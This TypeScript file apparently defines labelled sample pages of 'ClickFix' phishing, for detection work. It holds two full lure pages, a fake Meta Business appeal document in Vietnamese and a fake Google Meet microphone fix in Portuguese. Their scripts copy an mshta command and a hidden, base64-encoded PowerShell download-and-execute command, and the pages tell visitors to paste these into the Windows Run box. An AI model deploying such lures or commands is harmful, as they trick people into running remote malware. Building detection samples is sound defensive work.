import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';
import { CSS, MARK, b64, codes, doc, esc } from '../parts/ys-kit.js';

// "Verify you are human" / "fix the error" pages that have the visitor paste a command.

const winRSteps = (t: string[]): string => `<ol style="text-align:left;line-height:2;font-size:15px">${t.map((x) => `<li>${x}</li>`).join('')}</ol>`;

export const entries: Entry[] = [
{
  id: 'ys-clickfix-meta-appeal-doc-vi',
  label: 'clickfix',
  kind: 'clickfix-fix-error',
  url: 'https://meta-khieunai-docs.com/tailieu/VN-8841',
  body: doc({
    lang: 'vi',
    title: 'Meta Business - Tài liệu khiếu nại VN-8841',
    css: CSS.reset + CSS.meta + `.er{background:#fff;border:1px solid #f1c0c0;border-radius:8px;padding:16px;margin:14px 0}.cmd{font-family:Consolas,monospace;background:#1c1e21;color:#e4e6eb;padding:10px;border-radius:6px;font-size:13px;word-break:break-all;display:none}.k{display:inline-block;border:1px solid #bbb;border-bottom-width:3px;border-radius:4px;padding:0 6px;font-family:Consolas,monospace;background:#fafafa}`,
    body: `<div style="background:#fff;padding:12px 20px;border-bottom:1px solid #ddd">${MARK.meta}</div>
<div class="card"><h2 style="margin-top:0">Tài liệu khiếu nại của bạn</h2>
<p>Trang của bạn đang bị hạn chế. Vui lòng xem <b>Thông báo vi phạm (PDF)</b> và làm theo hướng dẫn để khôi phục Trang.</p>
<div class="er"><b style="color:#e41e3f">⚠ Lỗi hiển thị tài liệu (0x80070643)</b><p class="muted">Trình duyệt không thể hiển thị tài liệu được mã hóa. Để xác minh và mở tài liệu, làm theo các bước sau:</p>
${winRSteps(['Nhấn nút <b>Sao chép mã xác minh</b> bên dưới', 'Nhấn tổ hợp phím <span class="k">⊞ Win</span> + <span class="k">R</span>', 'Nhấn <span class="k">Ctrl</span> + <span class="k">V</span> rồi nhấn <span class="k">Enter</span>'])}
<button class="btn" id="cp">Sao chép mã xác minh</button><div class="cmd" id="cm"></div></div></div>
<script>
var c='mshta https://meta-khieunai-docs.com/v/8841.hta #  Meta Business Verification - Ma xac minh: 8841-2025';
document.getElementById('cp').onclick=function(){navigator.clipboard.writeText(c).then(function(){var b=document.getElementById('cp');b.textContent='Đã sao chép ✓';var m=document.getElementById('cm');m.textContent='Meta Business Verification - Ma xac minh: 8841-2025';m.style.display='block'})};
</script>`,
  }),
},

{
  id: 'ys-clickfix-meet-microphone-pt',
  label: 'clickfix',
  kind: 'clickfix-fix-error',
  url: 'https://meet.google-call.app/kxb-pqow-rtz',
  body: doc({
    lang: 'pt-BR',
    title: 'Meet - kxb-pqow-rtz',
    css: CSS.reset + `body{font-family:"Google Sans",Roboto,Arial,sans-serif;background:#202124;color:#e8eaed}.w{display:flex;gap:40px;max-width:1100px;margin:8vh auto;padding:0 20px;flex-wrap:wrap}.v{flex:1 1 560px;height:340px;background:#3c4043;border-radius:10px;display:flex;align-items:center;justify-content:center;color:#9aa0a6}.j{flex:1 1 300px;text-align:center}.j button{background:#8ab4f8;color:#202124;border:0;border-radius:20px;padding:12px 26px;font-weight:500}.pop{position:fixed;inset:0;background:rgba(0,0,0,.6);display:none;align-items:center;justify-content:center}.pop .b{background:#fff;color:#202124;border-radius:8px;width:480px;padding:24px}.pop .b button{background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:10px 18px}`,
    body: `<div class="w"><div class="v">🎤 Microfone não encontrado · 📷 Câmera desativada</div>
<div class="j"><h2>Pronto para participar?</h2><p>Reunião: Alinhamento de campanha — Cliente Verdemar</p><button id="join">Participar agora</button></div></div>
<div class="pop" id="pop"><div class="b"><h3>Problema com o microfone detectado</h3><p style="font-size:14px">O Meet não conseguiu acessar seu dispositivo de áudio por causa de um driver desatualizado. Para corrigir:</p>
${winRSteps(['Clique em <b>Copiar correção</b>', 'Pressione <b>Windows + R</b>', 'Cole com <b>Ctrl + V</b> e pressione <b>Enter</b>', 'Volte para esta aba e clique em Participar'])}
<button id="fix">Copiar correção</button></div></div>
<script>
var fix=atob('${b64(`powershell -ep bypass -w hidden -c "$u='https://meet-fix-audio.com/fix.ps1';iex (New-Object Net.WebClient).DownloadString($u)"`)}');
document.getElementById('join').onclick=function(){document.getElementById('pop').style.display='flex'};
document.getElementById('fix').onclick=function(){var t=document.createElement('textarea');t.value=fix;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();this.textContent='Copiado!'};
</script>`,
  }),
},
];
